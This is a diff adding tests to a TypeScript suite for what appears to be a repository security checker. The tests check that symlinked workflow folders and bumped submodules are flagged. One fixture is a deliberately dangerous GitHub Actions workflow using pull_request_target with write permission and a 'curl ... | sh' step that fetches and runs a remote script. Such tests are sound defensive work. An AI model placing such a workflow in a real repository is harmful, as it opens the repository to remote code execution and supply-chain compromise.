@@ -70,6 +70,18 @@ describe("links inside the repository are reviewed as their targets, at the link
     expect(linked.annotations).toEqual(direct.annotations);
   });
 
+  test("a folder link above a scope path (`.github/workflows -> ../ci/workflows`) exposes its workflows", async () => {
+    const evil = "name: triage\non:\n  pull_request_target:\n    types: [opened]\npermissions:\n  contents: write\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://get.example.test/ci.sh | sh\n";
+    const direct = await review(seed(h.fake), 88, { ".github/workflows/triage.yml": evil });
+    expect(direct.annotations.some((a) => String(a[2]).includes("workflow.pull-request-target"))).toBe(true);
+
+    const s = seed(h.fake);
+    const agent = s.tree[".github/workflows/agent.yml"]!;
+    const linked = await review(s, 89, { ".github/workflows/agent.yml": null, ".github/workflows": symlink("../ci/workflows"), "ci/workflows/agent.yml": agent, "ci/workflows/triage.yml": evil });
+    expect(linked.annotations).toEqual(direct.annotations);
+    expect(linked.run.conclusion).toBe(direct.run.conclusion);
+  });
+
   test("an unchanged link to an unchanged file: no change, no extra finding", async () => {
     const s = rebase(seed(h.fake), { "AGENTS.md": symlink("docs/agents.md"), "docs/agents.md": "# Agents\n\nRun `npm test` before pushing.\n" });
     const r = await review(s, 96, { "src/app.ts": "export {};\n" });
@@ -92,6 +104,20 @@ describe("links and submodules that cannot be followed fail closed", () => {
     expect(unreadable.length).toBeGreaterThan(0);
     expect(unreadable.every((a) => a.path === path || a.path.startsWith(`${path}/`))).toBe(true);
     expect(unreadable.map((a) => a.message).join("\n")).toMatch(why);
+  });
+
+  test("an unchanged submodule elsewhere does not fail an unrelated pull request; bumping it does", async () => {
+    const s = rebase(seed(h.fake), { "vendor/tools": submodule("1111111111111111111111111111111111111111") });
+    const unrelated = await review(s, 86, { "src/app.ts": "export {};\n" });
+    expect(unrelated.run).toMatchObject({ conclusion: "success" });
+
+    const bumped = await review(s, 87, { "vendor/tools": submodule("2222222222222222222222222222222222222222") });
+    expect(bumped.run.conclusion).toBe("failure");
+    const unreadable = bumped.run.annotations.filter((a) => a.title?.includes("file.unreadable"));
+    // Keyed at a scope path under the submodule (core/links.ts picks which).
+    expect(unreadable).toHaveLength(1);
+    expect(unreadable[0]!.path.startsWith("vendor/tools/")).toBe(true);
+    expect(unreadable[0]!.message).toContain("2222222222222222222222222222222222222222");
   });
 
   test("a repository whose tree is too big to list whole, with a link in scope: the check fails closed", async () => {
